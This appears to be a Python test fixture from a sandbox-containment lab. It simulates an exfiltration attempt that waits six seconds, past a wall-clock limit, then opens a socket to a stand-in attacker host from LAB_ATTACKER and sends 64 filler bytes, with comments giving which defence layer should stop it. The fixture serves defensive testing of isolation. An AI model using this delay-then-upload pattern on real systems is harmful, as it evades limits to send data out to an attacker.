# lab:title: Declares exfiltration, waits past the wall clock first
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED limits ~ before the attack made an attempt
# adversary: --on network => CONTAINED network ~ its attempt, refused
"""A slow attack (or a loaded machine) meets the Resource-limits wall clock
(5 s) before its move: the limit ended it, so Resource-limits takes the
credit, never "broke by itself". With the clock off the same upload is
tried after 6 s and No-network refuses it (the 6 s past the wall-time cap
are not a resource escape of an exfiltration: a slow run took nothing of
anyone's, and a loaded machine makes every run slow)."""
import os
import socket
import time

time.sleep(6)
host, _, port = os.environ.get("LAB_ATTACKER", "127.0.0.1:9").replace("http://", "").partition(":")
socket.create_connection((host, int(port.split("/")[0] or 9)), timeout=3).sendall(b"x" * 64)
